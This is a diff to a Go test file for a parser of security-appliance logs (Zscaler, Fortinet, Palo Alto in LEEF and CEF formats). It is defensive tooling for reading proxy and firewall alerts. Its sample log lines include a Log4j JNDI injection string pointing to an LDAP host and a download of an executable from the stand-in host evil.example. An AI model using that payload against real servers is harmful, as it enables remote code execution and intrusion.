@@ -72,3 +72,55 @@ func TestSudoItself(t *testing.T) {
 		{"a program of that name", "Aug  7 13:55:10 jump01 sudo: s.okafor : TTY=pts/3 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/list", run},
 	})
 }
+
+func TestProxyLines(t *testing.T) {
+	const zscaler = "<13>Aug  7 13:30:12 proxy01 LEEF:1.0|Zscaler|NSS|6.1|%s|cat=%s\tdevTime=Aug 07 2024 13:30:12 GMT\tsrc=10.20.10.114\tdst=198.51.100.77\tusrName=m.lindqvist@corp.example\turl=static.freight.example/assets/ui.png?v=2\t" +
+		"useragent=Mozilla/5.0 WindowsPowerShell/5.1\thostname=static.freight.example\tthreatname=None\treqmethod=GET\trespcode=200"
+	want := gist{Format: "leef", Kind: "event", Name: "Allowed", Rule: "Allowed", Severity: "unknown", Time: "2024-08-07T13:30:12Z", Host: "10.20.10.114", User: "m.lindqvist@corp.example", Action: "Allowed",
+		Log:      casemate.Logsource{Category: "proxy"},
+		Entities: []string{"source address 10.20.10.114", "destination address 198.51.100.77", "observer host proxy01", "actor user m.lindqvist@corp.example", "actor user m.lindqvist", "destination url static.freight.example/assets/ui.png?v=2"},
+		Event: map[string]string{"c-uri": "static.freight.example/assets/ui.png?v=2", "cs-method": "GET", "c-useragent": "Mozilla/5.0 WindowsPowerShell/5.1", "sc-status": "200", "cs-host": "static.freight.example",
+			"c-uri-extension": "png", "c-uri-query": "v=2", "cs-uri-stem": "/assets/ui.png", "c-ip": "10.20.10.114"}}
+	blocked := want
+	blocked.Name, blocked.Rule, blocked.Action = "Blocked", "Blocked", "Blocked"
+	checkText(t, []sample{
+		{"allowed", strings.ReplaceAll(zscaler, "%s", "Allowed"), want},
+		{"blocked", strings.ReplaceAll(zscaler, "%s", "Blocked"), blocked},
+		{"web gateway in cef", "CEF:0|Acme|Web Gateway|1.0|200|Request|2|src=10.0.0.1 dst=203.0.113.2 request=https://evil.example:8443/a.exe requestMethod=GET requestClientApplication=curl/8 act=Denied",
+			gist{Format: "cef", Kind: "event", Name: "Request", Rule: "200", Severity: "unknown", Host: "10.0.0.1", Action: "Denied", Log: casemate.Logsource{Category: "proxy"},
+				Entities: []string{"source address 10.0.0.1", "destination address 203.0.113.2", "destination url https://evil.example:8443/a.exe"},
+				Event:    map[string]string{"c-uri": "https://evil.example:8443/a.exe", "cs-host": "evil.example", "c-useragent": "curl/8", "cs-method": "GET", "c-uri-extension": "exe"}}},
+		{"web filter of a firewall", "CEF:0|Fortinet|Fortigate|v7.2|13056|utm:webfilter ftgd_blk blocked|4|src=10.0.0.1 dst=203.0.113.2 request=https://evil.example/ act=blocked",
+			gist{Format: "cef", Kind: "alert", Name: "utm:webfilter ftgd_blk blocked", Rule: "13056", Severity: "medium", Host: "10.0.0.1", Action: "blocked", Log: casemate.Logsource{Category: "proxy"},
+				Entities: []string{"source address 10.0.0.1", "destination address 203.0.113.2", "destination url https://evil.example/"}}},
+	})
+}
+
+func TestPaloAlto(t *testing.T) {
+	line := func(subtype, typ, severity, rest string) string {
+		return "<132>Aug  7 13:30:12 fw-edge-01 CEF:0|Palo Alto Networks|PAN-OS|10.2.9|" + subtype + "|" + typ + "|" + severity + "|rt=Aug 07 2024 13:30:12 GMT src=10.20.99.5 dst=10.20.40.31 spt=50941 dpt=80 act=alert " + rest
+	}
+	const threat = `request="10.20.40.31/?q\=${jndi:ldap://10.20.99.5:1389/n}" cs2Label=URL Category cs2=private cat=Apache Log4j Remote Code Execution Vulnerability(91991)`
+	want := func(kind, name, rule, severity string) gist {
+		return gist{Format: "cef", Kind: kind, Name: name, Rule: rule, Severity: severity, Time: "2024-08-07T13:30:12Z", Host: "10.20.99.5", Action: "alert", Log: casemate.Logsource{Category: "firewall"},
+			Entities: []string{"source address 10.20.99.5", "destination address 10.20.40.31", "observer host fw-edge-01"}}
+	}
+	log4j := want("alert", "Apache Log4j Remote Code Execution Vulnerability", "91991", "critical")
+	log4j.Entities = append(log4j.Entities, "destination url 10.20.40.31/?q=${jndi:ldap://10.20.99.5:1389/n}")
+	log4j.Event = map[string]string{"dst_port": "80", "src_ip": "10.20.99.5"}
+	low := log4j
+	low.Kind, low.Severity = "event", "unknown"
+	url := want("event", "URL filtering", "9999", "unknown")
+	url.Log.Category = "proxy"
+	url.Entities = append(url.Entities, "destination url evil.example/a")
+	url.Event = map[string]string{"c-uri": "evil.example/a", "cs-host": "evil.example"}
+	checkText(t, []sample{
+		{"critical", line("vulnerability", "THREAT", "5", threat), log4j},
+		{"low", line("vulnerability", "THREAT", "2", threat), low},
+		{"high", line("spyware", "THREAT", "4", "cat=Cobalt Strike (beacon)"), want("alert", "Cobalt Strike (beacon)", "spyware", "high")},
+		{"medium", line("wildfire", "THREAT", "3", ""), want("alert", "THREAT", "wildfire", "medium")},
+		{"traffic is graded without meaning", line("end", "TRAFFIC", "3", ""), want("event", "TRAFFIC", "end", "unknown")},
+		{"url log", line("url", "THREAT", "1", `request="evil.example/a" cat=URL filtering(9999)`), url},
+		{"others count to ten", strings.Replace(line("1", "Worm", "5", ""), "Palo Alto Networks", "Acme", 1), want("alert", "Worm", "1", "medium")},
+	})
+}
